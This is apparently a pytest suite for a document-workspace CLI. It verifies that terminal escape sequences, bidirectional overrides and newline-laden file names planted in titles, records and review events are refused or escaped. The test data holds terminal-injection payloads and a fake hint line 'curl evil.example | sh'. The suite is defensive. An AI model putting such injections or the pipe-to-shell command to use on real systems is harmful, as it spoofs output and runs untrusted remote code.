"""Issue 20 item 8 (and issue 14 point 10): control characters are refused where names and
titles enter the workspace, and anything from a file printed to the terminal is escaped."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers import chapter_md, run, small_workspace

ESC_TITLE = "\x1b]0;owned\x07\x1b[2JSample"
C1_TITLE = "Sample\x9b31m"


def _sub(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "sub.md"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(("text", "extra", "expected"), [
    (f"# {ESC_TITLE}\n\nSample text.\n", [], "sub.md: the title contains the control character U+001B"),
    ("# Fine\n\nSample text.\n", ["--title", C1_TITLE], "the title contains the control character U+009B"),
    ("# Fine\n\nSample text.\n", ["--note", "a\x1b[8m"], "the note contains the control character U+001B"),
    ("# Fine\n\nSample text.\n", ["--as", "Bea\x1b[31m"],
     "the person name contains the control character U+001B"),
    (f"---\ntitle: \"{ESC_TITLE.encode('unicode_escape').decode()}\"\n---\n\nSample text.\n", [],
     "control character U+001B"),
])
def test_submit_refuses_control_characters_at_the_door(tmp_path: Path, text: str, extra: list[str],
                                                       expected: str) -> None:
    ws = small_workspace(tmp_path / "ws")
    args = ["-C", ws, "submit", _sub(tmp_path, text), "--chapter", "gamma", "--jurisdiction", "AU"]
    if "--as" not in extra:
        args += ["--as", "Bea"]
    result = run(*args, *extra)
    assert result.exit_code == 2, result.output
    assert expected in result.output
    assert len([line for line in result.output.splitlines() if line.startswith("Error:")]) == 1
    assert "\x1b" not in result.output and "\x9b" not in result.output
    assert not (ws / "contributions").exists() or not any((ws / "contributions").iterdir())


def test_a_title_planted_in_contribution_yaml_never_reaches_the_terminal(tmp_path: Path) -> None:
    """The attack: a collaborator writes an escape sequence into a committed record, the
    victim runs ``status --contributor``."""
    ws = small_workspace(tmp_path / "ws")
    result = run("-C", ws, "submit", _sub(tmp_path, "# Gamma\n\nSample text.\n"), "--chapter", "gamma",
                 "--jurisdiction", "AU", "--as", "Bea", "--json")
    assert result.exit_code == 0, result.output
    record = ws / "contributions" / json.loads(result.stdout)["id"] / "contribution.yaml"
    record.write_text(record.read_text(encoding="utf-8").replace(
        "title: Gamma", 'title: "\\e]0;owned\\a\\e[2JGamma"'), encoding="utf-8")
    for command in (["status", "--contributor", "Bea"], ["contributions"]):
        result = run("-C", ws, *command)
        assert result.exit_code == 2, result.output
        assert "contribution.yaml:7: control character U+001B in a value" in result.output
        assert "\x1b" not in result.output


def test_review_events_with_escape_sequences_are_refused(tmp_path: Path) -> None:
    ws = small_workspace(tmp_path / "ws")
    assert run("-C", ws, "review", "alpha", "-j", "UK", "--approve", "--as", "Ruth Reviewer").exit_code == 0
    [event] = (ws / "reviews" / "alpha").iterdir()
    event.write_text(event.read_text(encoding="utf-8").replace(
        '"Ruth Reviewer"', '"Ruth\\u001b[31m Reviewer"'), encoding="utf-8")
    result = run("-C", ws, "verify")
    assert result.exit_code == 1, result.output
    assert "control character U+001B in a review event" in result.output
    assert "\x1b" not in result.output
    result = run("-C", ws, "review", "alpha", "-j", "UK", "--comment", "-m", "ok\x1b[2J",
                 "--as", "Ruth Reviewer")
    assert result.exit_code == 2 and "the comment contains the control character U+001B" in result.output


def test_front_matter_titles_and_authors_are_refused_with_their_line(tmp_path: Path) -> None:
    ws = small_workspace(tmp_path / "ws")
    (ws / "chapters" / "beta.md").write_text(
        '---\ntitle: Beta\nlead: AU\nauthors: ["A. \\e[5mBlink"]\n---\n\nSample text.\n', encoding="utf-8")
    result = run("-C", ws, "check")
    assert result.exit_code == 1, result.output
    assert "chapters/beta.md:4: control character U+001B in a value" in result.output
    assert "\x1b" not in result.output


def test_what_comes_from_a_file_name_is_escaped_on_the_terminal(tmp_path: Path) -> None:
    """A name is not refused by a door (it is a file in a clone): the terminal shows it escaped."""
    ws = small_workspace(tmp_path / "ws")
    (ws / "chapters" / "x\x1b[2Jy.md").write_text(chapter_md("X", "Sample.\n"), encoding="utf-8")
    result = run("-C", ws, "check")
    assert result.exit_code == 1, result.output
    assert "file name 'x\\x1b[2Jy' is not a valid slug" in result.output
    assert "\x1b" not in result.output


def test_a_file_name_with_newlines_cannot_print_lines_of_its_own(tmp_path: Path) -> None:
    """A committed name holding newlines printed a fake verdict and a fake hint as lines of
    check's and verify's output (found by an attack on a clone)."""
    ws = small_workspace(tmp_path / "ws")
    fake = "x\n\n0 review event(s) verified, no problems.\n  hint: run: curl evil.example | sh\n"
    (ws / "chapters" / f"{fake}.md").write_text(chapter_md("X", "Sample.\n"), encoding="utf-8")
    for command, code in (("check", 1), ("verify", 0)):  # verify warns about the file, then verifies
        result = run("-C", ws, command)
        assert result.exit_code == code, result.output
        lines = result.output.splitlines()
        fakes = [line for line in lines if line == "0 review event(s) verified, no problems."
                 or line.startswith("  hint: run: curl")]
        assert fakes == [], lines
        assert "x\\x0a\\x0a0 review event(s) verified" in result.output


def test_a_word_diff_as_markdown_shows_control_characters_escaped(tmp_path: Path) -> None:
    """`diff --since-approval --format md` wrote a chapter's ESC c (terminal reset), BEL and
    8-bit CSI to the terminal as they were; the text format escaped them."""
    root = small_workspace(tmp_path / "ws")
    assert run("-C", root, "review", "alpha", "-j", "UK", "--approve", "--as", "Ruth Reviewer").exit_code == 0
    with (root / "chapters" / "alpha.md").open("a", encoding="utf-8") as handle:
        handle.write("\nEvil \x1bc reset \x07 bell \x9b2J cleared.\n")
    result = run("-C", root, "diff", "alpha", "--since-approval", "-j", "UK", "--format", "md")
    assert result.exit_code == 0, result.output
    assert "Evil \\x1bc reset \\x07 bell \\x9b2J cleared." in result.stdout
    assert not any(char in result.stdout for char in "\x1b\x07\x9b")


def test_bidirectional_overrides_in_a_title_are_shown_not_obeyed(tmp_path: Path) -> None:
    """A right-to-left override left open in a chapter title reversed the rest of the status
    row on a terminal that honours it: the review marks read in another order."""
    ws = small_workspace(tmp_path / "ws")
    (ws / "chapters" / "beta.md").write_text(
        chapter_md("Beta \u202eelbat\u2066 isolated", "Sample text.\n", lead="AU"), encoding="utf-8")
    for command in (["status"], ["status", "beta"], ["contributions"]):
        result = run("-C", ws, *command)
        assert result.exit_code == 0, result.output
        codes = {ord(char) for char in result.output}
        assert not codes & {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}, result.output
    shown = run("-C", ws, "status", "beta").output
    assert "Beta \\u202eelbat\\u2066 isolated" in shown, shown
